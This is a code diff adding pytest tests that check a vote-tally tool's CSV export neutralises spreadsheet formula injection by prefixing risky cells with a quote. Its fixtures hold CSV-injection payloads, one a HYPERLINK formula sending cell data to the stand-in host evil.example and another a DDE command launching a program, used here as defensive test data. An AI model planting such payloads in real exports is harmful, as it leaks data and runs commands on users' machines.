@@ -14,11 +14,12 @@ from jsonschema import Draft3Validator, Draft202012Validator, FormatChecker
 from referencing import Registry, Resource
 from referencing.jsonschema import DRAFT3
 
+from tests.builders import Log, session_data, write_folder
 from tests.publish.conftest import IN_CAMERA, SECRET, Published
-from videoacta import outputs
+from videoacta import outputs, pipeline
 from videoacta.cli import cli
 from videoacta.models import VoteType
-from videoacta.opendata import CSV_COLUMNS, body_id, write_exports
+from videoacta.opendata import CSV_COLUMNS, body_id, neutralise, votes_csv, write_exports
 from videoacta.schemas import index_schema
 from videoacta.tally import Option
 
@@ -200,3 +201,78 @@ def test_the_schema_rejects_a_broken_index(sample_package: Published) -> None:
     errors = {e.message for e in Draft202012Validator(index_schema()).iter_errors(index)}
     assert "'parts' is a required property" in errors
     assert "'no' is not of type 'boolean'" in errors
+
+
+FORMULAS = {
+    "m1": '=HYPERLINK("http://evil.example/?"&A1,"Vegeu")',
+    "m2": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "m3": "-2+3",
+    "m4": "+SUM(1)",
+}
+
+
+def formula_package(tmp_path: Path) -> tuple[Path, str]:
+    """A session whose names and titles are spreadsheet formulas, tallied and exported."""
+    data = session_data(members=4)
+    for member in data["members"]:
+        member["name"] = FORMULAS[member["id"]]
+    data["groups"][0]["name"] = "+SUM(1)"
+    data["items"][0]["title"] = "=1+1"
+    log = Log().opened(["m1", "m2", "m3", "m4"]).add("item_opened", item=1)
+    log.vote(1, {"m1": "yes", "m2": "no", "m3": "yes", "m4": "abstain"})
+    log.add("item_closed", item=1).add("session_closed")
+    run = pipeline.run_tally(write_folder(tmp_path / "session", data, log))
+    write_exports(tmp_path, session=run.session, tally=run.tally)
+    return tmp_path / "votes.csv", (tmp_path / "votes.csv").read_bytes().decode("utf-8")
+
+
+def test_csv_cells_that_spreadsheets_take_for_formulas_are_neutralised(tmp_path: Path) -> None:
+    _, text = formula_package(tmp_path)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert {r["member_id"]: r["member_name"] for r in rows} == {
+        member: "'" + name for member, name in FORMULAS.items()
+    }
+    assert {r["group_name"] for r in rows if r["group_id"] == "A"} == {"'+SUM(1)"}
+    assert {r["item_title"] for r in rows} == {"'=1+1"}
+    assert {r["group_name"] for r in rows if r["group_id"] == "B"} == {"Grup B"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_quotes_every_text_cell_and_no_number(tmp_path: Path) -> None:
+    _, text = formula_package(tmp_path)
+    lines = text.split("\r\n")
+    assert lines[0] == ",".join(f'"{column}"' for column in CSV_COLUMNS)
+    first = lines[1]
+    assert first.startswith('"test-session","test-session/item-1/round-1",1,"\'=1+1",1,"false",')
+    assert first.endswith(
+        f',"m1","\'{FORMULAS["m1"].replace(chr(34), 2 * chr(34))}","A","\'+SUM(1)","yes",1'
+    )
+
+
+@pytest.mark.parametrize(
+    "hostile", ["=1+1", "\t=1+1", "\r=1+1", 'a\r\nb,"c"', "-1", "@x", "+x", "\n=1"]
+)
+def test_csv_writer_is_safe_on_its_own(published: Published, hostile: str) -> None:
+    """Even text the input rules refuse (a tab, a line break) cannot break a row or run."""
+    session = published.run.session
+    members = tuple(m.model_copy(update={"name": hostile}) for m in session.members)
+    table = votes_csv(session.model_copy(update={"members": members}), published.run.tally)
+    rows = list(csv.DictReader(io.StringIO(table, newline="")))
+    assert len(rows) == len(csv_rows(published))
+    expected = "'" + hostile if hostile[0] in "=+-@\t\r" else hostile
+    assert {r["member_name"] for r in rows} == {expected}
+
+
+def test_neutralise() -> None:
+    assert [neutralise(t) for t in ("=A1", "+1", "-1", "@A", "\tx", "\rx", "A=1", "", "'x")] == [
+        "'=A1",
+        "'+1",
+        "'-1",
+        "'@A",
+        "'\tx",
+        "'\rx",
+        "A=1",
+        "",
+        "'x",
+    ]
